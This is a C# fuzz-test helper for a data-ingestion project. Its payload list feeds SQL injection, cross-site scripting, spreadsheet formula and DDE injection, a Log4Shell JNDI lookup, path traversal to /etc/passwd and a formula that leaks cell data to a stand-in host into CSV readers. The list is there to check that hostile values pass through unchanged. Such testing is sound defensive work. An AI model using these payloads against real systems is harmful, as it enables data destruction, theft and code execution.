using System.Text;
using CsCheck;

namespace Expunge.Fuzz.Tests;

/// <summary>
/// Values a hostile or broken source system can put in a text field. All of them are legitimate data for a reader
/// (a name may contain anything): the readers must carry them through unchanged, not choke on them, and leave it to
/// the stores and documents to treat them as text.
/// </summary>
public static class Hostile
{
    /// <summary>Strings that break naive SQL, HTML, CSV-in-a-spreadsheet, log and template handling.</summary>
    public static readonly string[] Injections =
    [
        "'; DROP TABLE ingestion.raw_row; --",
        "\" OR \"1\"=\"1",
        "Robert'); DELETE FROM matching.source_link WHERE ('1'='1",
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "%s%s%s%n",
        "../../../../etc/passwd",
        "\\\\evil.example\\share",
        "O'BRIEN",
        "NULL",
        "null",
        "\u202EGNP.EXE",          // right-to-left override
        "ZA\u0308\u0301LGO",      // combining marks
        "\U0001F600 SMILE",        // outside the BMP (a surrogate pair)
        "ŁÓDŹ ÇÉSAR ÑÚÑEZ",
        "李小龍",
        "\t TAB INSIDE \t",
        "BELL\u0007 ESC\u001B[31m RED",
        "LINE\nBREAK",
        "CR\rONLY",
        "COMMA, INSIDE",
        "QUOTE \"INSIDE\"",
        "\"",
        ",",
        "\u00A0NBSP\u00A0",
        "\u200BZERO\u200BWIDTH",
    ];

    private static readonly Gen<char> PlainChar = Gen.Char['A', 'Z'];

    /// <summary>Any character a text field may legitimately hold: not NUL (binary data is rejected), not a lone
    /// surrogate (it cannot be encoded) and not U+FFFD (what a decoder puts for bytes that are not UTF-8).</summary>
    private static readonly Gen<char> AnyTextChar = Gen.Char[(char)1, (char)0xFFFC]
        .Where(c => !char.IsSurrogate(c) && c != '\uFFFD');

    /// <summary>A text value: mostly blank or short plain words (as real rows are), sometimes hostile, rarely huge.</summary>
    public static readonly Gen<string> Text = Gen.Frequency(
        (6, Gen.Const("")),
        (10, Gen.String[PlainChar, 1, 12]),
        (4, Gen.OneOf(Injections)),
        (3, Gen.String[AnyTextChar, 1, 24]),
        (1, Gen.Int[20_000, 120_000].Select(n => new string('W', n))));

    /// <summary>A field as RFC 4180 writes it: quoted (quotes doubled) when it holds a comma, quote or line break,
    /// and sometimes quoted anyway (sources differ).</summary>
    public static string Csv(string value, bool quoteAnyway = false) =>
        quoteAnyway || value.AsSpan().IndexOfAny(",\"\r\n") >= 0 ? $"\"{value.Replace("\"", "\"\"", StringComparison.Ordinal)}\"" : value;

    /// <summary>What the readers hand on for a value: trimmed of spaces at both ends.</summary>
    public static string Trimmed(string value) => value.Trim(' ');

    /// <summary>A name as a Windows-1252 system writes it: bytes that are not UTF-8.</summary>
    public static byte[] Latin1(string text) => Encoding.Latin1.GetBytes(text);

    /// <summary>Physical lines a written row takes: a line break inside a quoted value is CR LF, LF or a lone CR.</summary>
    public static int LinesIn(string text) => 1 + text.Replace("\r\n", "\n", StringComparison.Ordinal).Count(c => c is '\n' or '\r');
}
